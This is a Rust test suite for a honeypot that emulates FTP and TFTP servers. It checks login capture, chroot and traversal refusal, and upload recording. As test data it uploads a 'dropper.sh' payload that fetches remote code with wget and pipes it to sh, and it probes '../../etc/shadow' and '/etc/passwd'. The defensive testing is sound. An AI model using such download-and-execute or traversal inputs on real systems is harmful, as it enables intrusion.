//! ftp and tftp driven by raw protocol clients over tokio: logins captured,
//! anonymous chroot on the decky's virtual filesystem, passive and active
//! data connections, uploads stored as artifacts and visible afterwards.
#![allow(clippy::unwrap_used)]

mod webmail_util;

use std::time::Duration;

use decnet_core::EventKind;
use decnet_services::Limits;
use sha2::{Digest, Sha256};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream, UdpSocket};
use webmail_util::{pasv_addr, s, Client, Env};

const INI: &str = "[general]\nnet = 127.0.62.0/24\n\n[files1]\nip = 127.0.62.30\nservices = ftp, tftp\ndistro = debian\n";

fn limits() -> Limits {
    Limits {
        auth_fail_delay: Duration::from_millis(10),
        ..Limits::default()
    }
}

fn epsv_port(reply: &str) -> u16 {
    reply
        .split("|||")
        .nth(1)
        .unwrap()
        .trim_end_matches(|c: char| !c.is_ascii_digit())
        .parse()
        .unwrap()
}

async fn read_all(mut d: TcpStream) -> Vec<u8> {
    let mut v = Vec::new();
    tokio::time::timeout(Duration::from_secs(10), d.read_to_end(&mut v))
        .await
        .unwrap()
        .unwrap();
    v
}

#[tokio::test]
async fn ftp_anonymous_login_upload_and_listing() {
    let mut env = Env::start(INI, 20700, limits()).await;
    let addr = env.addr("127.0.62.30", 21);
    let mut c = Client::new(TcpStream::connect(addr).await.unwrap());
    assert_eq!(c.line().await, "220 (vsFTPd 3.0.3)\r\n");
    assert!(c.cmd("LIST").await.starts_with("530"));
    // vsftpd before login: SYST is refused, an empty line is ignored (the
    // next answer is FEAT's), and FEAT has no UTF8.
    assert!(c.cmd("SYST").await.starts_with("530 Please login"));
    c.send("\r\nFEAT\r\n").await;
    let feat = c.until("211 End").await.concat();
    assert!(
        feat.starts_with("211-Features:") && !feat.contains("UTF8"),
        "{feat}"
    );
    assert!(c.cmd("USER anonymous").await.starts_with("331"));
    assert!(c.cmd("PASS mozilla@example.com").await.starts_with("230"));
    let ev = env
        .wait_kind("ftp", EventKind::AuthAttempt, |e| {
            s(e, "username") == "anonymous"
        })
        .await;
    assert_eq!(s(&ev, "password"), "mozilla@example.com");
    assert_eq!(ev.fields["success"], true);
    assert_eq!(c.cmd("PWD").await, "257 \"/\" is the current directory\r\n");
    assert!(c.cmd("SYST").await.starts_with("215 UNIX Type: L8"));
    // Passive LIST of the anonymous root.
    let r = c.cmd("EPSV").await;
    assert!(r.starts_with("229"), "{r}");
    let d = TcpStream::connect(("127.0.62.30", epsv_port(&r)))
        .await
        .unwrap();
    assert!(c.cmd("LIST -la").await.starts_with("150"));
    let listing = String::from_utf8(read_all(d).await).unwrap();
    assert!(c.line().await.starts_with("226"));
    assert!(
        listing.contains(" pub\r\n") && listing.starts_with('d'),
        "{listing}"
    );
    // RETR through PASV.
    assert!(c.cmd("CWD pub").await.starts_with("250"));
    let r = c.cmd("PASV").await;
    let d = TcpStream::connect(pasv_addr(&r)).await.unwrap();
    assert!(c.cmd("RETR README.txt").await.starts_with("150"));
    let body = String::from_utf8(read_all(d).await).unwrap();
    assert!(c.line().await.starts_with("226"));
    assert!(body.contains("public FTP"), "{body}");
    assert!(c
        .cmd("SIZE README.txt")
        .await
        .starts_with(&format!("213 {}", body.len())));
    assert!(c.cmd("MDTM README.txt").await.starts_with("213 20"));
    // The anonymous chroot holds: no /etc/passwd to be had.
    let r = c.cmd("PASV").await;
    let _d = TcpStream::connect(pasv_addr(&r)).await.unwrap();
    assert!(c.cmd("RETR ../../../etc/passwd").await.starts_with("550"));
    // Active mode (PORT back to us) upload.
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let p = l.local_addr().unwrap().port();
    assert!(c
        .cmd(&format!("PORT 127,0,0,1,{},{}", p >> 8, p & 255))
        .await
        .starts_with("200"));
    c.send("STOR incoming/dropper.sh\r\n").await;
    let (mut d, _) = tokio::time::timeout(Duration::from_secs(5), l.accept())
        .await
        .unwrap()
        .unwrap();
    assert!(c.line().await.starts_with("150"));
    let payload = b"#!/bin/sh\nwget http://198.51.100.7/x -O- | sh\n".repeat(50);
    d.write_all(&payload).await.unwrap();
    drop(d);
    assert!(c.line().await.starts_with("226"));
    let up = env.wait_kind("ftp", EventKind::FileUpload, |_| true).await;
    assert_eq!(s(&up, "sha256"), hex::encode(Sha256::digest(&payload)));
    assert_eq!(s(&up, "path"), "/pub/incoming/dropper.sh");
    assert!(env
        .dir
        .path()
        .join("artifacts")
        .join(s(&up, "sha256"))
        .exists());
    // The upload is in the decky's filesystem now.
    let vfs = env.fleet.decky("files1").await.unwrap().vfs();
    assert!(vfs.get("/srv/ftp/pub/incoming/dropper.sh").is_some());
    assert!(c
        .cmd("SIZE incoming/dropper.sh")
        .await
        .starts_with(&format!("213 {}", payload.len())));
    // FTP bounce refused.
    assert!(c
        .cmd("PORT 10,0,0,1,0,80")
        .await
        .starts_with("500 Illegal PORT"));
    assert!(c.cmd("QUIT").await.starts_with("221"));
    env.stop().await;
}

#[tokio::test]
async fn ftp_user_login_capture_and_bad_input() {
    let mut env = Env::start(INI, 20800, limits()).await;
    let addr = env.addr("127.0.62.30", 21);
    let mut c = Client::new(TcpStream::connect(addr).await.unwrap());
    c.line().await;
    c.cmd("USER admin").await;
    assert!(c
        .cmd("PASS Passw0rd!")
        .await
        .starts_with("530 Login incorrect"));
    let ev = env
        .wait_kind("ftp", EventKind::AuthAttempt, |e| {
            s(e, "username") == "admin"
        })
        .await;
    assert_eq!(s(&ev, "password"), "Passw0rd!");
    assert_eq!(ev.fields["success"], false);
    // Past vsftpd's 4096-byte command line the answer is 500 and a hang-up.
    let r = c.cmd(&"X".repeat(5_000)).await;
    assert!(r.starts_with("500"), "{r}");
    assert_eq!(c.line().await, "", "connection closed after the long line");
    env.wait_kind("ftp", EventKind::Error, |e| {
        s(e, "error").contains("longer than")
    })
    .await;
    let mut c = Client::new(TcpStream::connect(addr).await.unwrap());
    c.line().await;
    c.cmd("USER ubuntu").await;
    assert!(c.cmd("PASS admin").await.starts_with("230"));
    let pwd = c.cmd("PWD").await;
    assert!(pwd.contains("/home/ubuntu"), "{pwd}");
    let r = c.cmd("PASV").await;
    let d = TcpStream::connect(pasv_addr(&r)).await.unwrap();
    assert!(c.cmd("RETR /etc/hostname").await.starts_with("150"));
    let host = String::from_utf8(read_all(d).await).unwrap();
    let decky = env.fleet.decky("files1").await.unwrap();
    assert_eq!(
        host.trim(),
        decky.persona.hostname.split('.').next().unwrap()
    );
    env.stop().await;
}

fn rrq(op: u8, name: &str) -> Vec<u8> {
    let mut v = vec![0, op];
    v.extend_from_slice(name.as_bytes());
    v.push(0);
    v.extend_from_slice(b"octet\0");
    v
}

#[tokio::test]
async fn tftp_read_and_write() {
    let mut env = Env::start(INI, 20900, limits()).await;
    let server = env.addr("127.0.62.30", 69);
    let sock = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let mut buf = vec![0u8; 1024];

    // Without --create, tftpd-hpa refuses a WRQ for a file that does not
    // exist; the request is still recorded.
    sock.send_to(&rrq(2, "cfg/backup.bin"), server)
        .await
        .unwrap();
    let (n, _) = tokio::time::timeout(Duration::from_secs(5), sock.recv_from(&mut buf))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(&buf[..n], b"\x00\x05\x00\x01File not found\x00");
    env.wait_kind("tftp", EventKind::Request, |e| {
        s(e, "op") == "WRQ" && s(e, "filename") == "cfg/backup.bin"
    })
    .await;

    // WRQ of 1300 bytes onto the world-writable config backup: three blocks.
    let payload: Vec<u8> = (0..1300u32).map(|i| (i * 7) as u8).collect();
    sock.send_to(&rrq(2, "router-confg"), server).await.unwrap();
    let (n, tid) = tokio::time::timeout(Duration::from_secs(5), sock.recv_from(&mut buf))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(&buf[..n], &[0, 4, 0, 0]);
    assert_ne!(tid.port(), server.port(), "transfer on its own TID");
    for (i, chunk) in payload.chunks(512).enumerate() {
        let mut p = vec![0, 3];
        p.extend_from_slice(&((i + 1) as u16).to_be_bytes());
        p.extend_from_slice(chunk);
        sock.send_to(&p, tid).await.unwrap();
        let (n, _) = tokio::time::timeout(Duration::from_secs(5), sock.recv_from(&mut buf))
            .await
            .unwrap()
            .unwrap();
        assert_eq!(&buf[..n], &[0, 4, 0, (i + 1) as u8]);
    }
    let up = env.wait_kind("tftp", EventKind::FileUpload, |_| true).await;
    assert_eq!(s(&up, "sha256"), hex::encode(Sha256::digest(&payload)));
    assert_eq!(s(&up, "filename"), "router-confg");

    // RRQ of the file just written: same bytes back.
    sock.send_to(&rrq(1, "/router-confg"), server)
        .await
        .unwrap();
    let mut got = Vec::new();
    loop {
        let (n, tid) = tokio::time::timeout(Duration::from_secs(5), sock.recv_from(&mut buf))
            .await
            .unwrap()
            .unwrap();
        assert_eq!(buf[1], 3, "DATA");
        got.extend_from_slice(&buf[4..n]);
        sock.send_to(&[0, 4, buf[2], buf[3]], tid).await.unwrap();
        if n - 4 < 512 {
            break;
        }
    }
    assert_eq!(got, payload);

    // Missing file and traversal.
    sock.send_to(&rrq(1, "nope.bin"), server).await.unwrap();
    let (n, _) = tokio::time::timeout(Duration::from_secs(5), sock.recv_from(&mut buf))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(&buf[..4], &[0, 5, 0, 1], "{:?}", &buf[..n]);
    sock.send_to(&rrq(1, "../../etc/shadow"), server)
        .await
        .unwrap();
    let (_, _) = tokio::time::timeout(Duration::from_secs(5), sock.recv_from(&mut buf))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(&buf[..4], &[0, 5, 0, 2]);
    env.wait_kind("tftp", EventKind::Error, |e| {
        s(e, "error").contains("traversal")
    })
    .await;
    // A file that is not world-writable is refused as the unprivileged
    // tftpd-hpa user's open() would be.
    sock.send_to(&rrq(2, "pxelinux.cfg/default"), server)
        .await
        .unwrap();
    let (n, _) = tokio::time::timeout(Duration::from_secs(5), sock.recv_from(&mut buf))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(&buf[..n], b"\x00\x05\x00\x00Permission denied\x00");
    // Garbage and stray packets on the request port: logged, never answered.
    for junk in [
        &b"\xff\xff\xff"[..],
        b"\x00\x03\x00\x01hello",
        b"\x00\x09abc\x00",
    ] {
        sock.send_to(junk, server).await.unwrap();
    }
    env.wait_kind("tftp", EventKind::Error, |e| {
        s(e, "error").contains("malformed datagram")
    })
    .await;
    assert!(
        tokio::time::timeout(Duration::from_millis(1500), sock.recv_from(&mut buf))
            .await
            .is_err(),
        "the request port answered a non-request"
    );
    env.stop().await;
}
